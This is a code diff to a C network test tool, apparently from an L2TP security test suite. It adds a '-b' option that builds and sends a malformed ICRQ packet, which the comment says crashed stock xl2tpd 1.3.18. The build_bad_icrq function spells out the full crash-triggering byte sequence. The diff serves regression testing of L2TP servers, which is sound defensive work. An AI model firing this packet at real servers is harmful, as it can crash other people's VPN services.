@@ -2,10 +2,12 @@
  * SPDX-License-Identifier: GPL-2.0-or-later
  * Copyright (C) 2026 The l2tpsec authors
  *
- * l2tp-sccrq DEST [HOSTNAME [WAIT_SECONDS]]: send one well-formed plaintext SCCRQ (RFC 2661 6.1)
- * from UDP port 1701 to DEST:1701, as any L2TP client's first packet would be, and wait for an
- * answer. Prints what came back; exit 0 when an answer came, 1 when none did within the wait,
+ * l2tp-sccrq [-b] DEST [HOSTNAME [WAIT_SECONDS]]: send one well-formed plaintext SCCRQ (RFC 2661
+ * 6.1) from UDP port 1701 to DEST:1701, as any L2TP client's first packet would be, and wait for
+ * an answer. Prints what came back; exit 0 when an answer came, 1 when none did within the wait,
  * 2 on a usage or system error. netlab injects it at LNSs that must not answer.
+ * -b sends instead the first packet that crashed stock xl2tpd 1.3.18: a Message Type "ICRQ"
+ * without the M bit (refused, but then ignored) followed by a Dialed Number AVP.
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -57,6 +59,20 @@ static size_t build_sccrq(uint8_t *p, const char *hostname)
 	return off;
 }
 
+/* a new tunnel's first packet: Message Type ICRQ (M bit clear), then Dialed Number "1" */
+static size_t build_bad_icrq(uint8_t *p)
+{
+	static const uint8_t avps[] = { 0x00, 0x08, 0, 0, 0, 0, 0x00, 0x0a,
+					0x80, 0x07, 0, 0, 0, 0x15, '1' };
+	size_t len = 12 + sizeof(avps);
+
+	put16(p, 0, 0xc802);
+	put16(p, 2, (unsigned)len);
+	memset(p + 4, 0, 8);
+	memcpy(p + 12, avps, sizeof(avps));
+	return len;
+}
+
 static const char *message_name(unsigned type)
 {
 	static const char *const names[] = { "ZLB", "SCCRQ", "SCCRP", "SCCCN", "StopCCN" };
@@ -89,12 +105,16 @@ int main(int argc, char **argv)
 	ssize_t n;
 	size_t len;
 
+	int bad = argc > 1 && !strcmp(argv[1], "-b");
+
+	argv += bad;
+	argc -= bad;
 	if (argc < 2 || argc > 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
-		fprintf(stderr, "usage: l2tp-sccrq DEST_IPV4 [HOSTNAME [WAIT_SECONDS]]\n");
+		fprintf(stderr, "usage: l2tp-sccrq [-b] DEST_IPV4 [HOSTNAME [WAIT_SECONDS]]\n");
 		return 2;
 	}
 	wait_s = argc > 3 ? atoi(argv[3]) : 5;
-	len = build_sccrq(pkt, argc > 2 ? argv[2] : "l2tp-sccrq");
+	len = bad ? build_bad_icrq(pkt) : build_sccrq(pkt, argc > 2 ? argv[2] : "l2tp-sccrq");
 	fd = socket(AF_INET, SOCK_DGRAM, 0);
 	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
 	    bind(fd, (struct sockaddr *)&me, sizeof(me))) {
@@ -106,7 +126,7 @@ int main(int argc, char **argv)
 		printf("send refused: %s\n", strerror(errno));
 		return 1;
 	}
-	printf("sent SCCRQ (%zu bytes) to %s:%d\n", len, argv[1], L2TP_PORT);
+	printf("sent %s (%zu bytes) to %s:%d\n", bad ? "bad ICRQ" : "SCCRQ", len, argv[1], L2TP_PORT);
 	pfd.fd = fd;
 	pfd.events = POLLIN;
 	deadline = time(NULL) + wait_s;
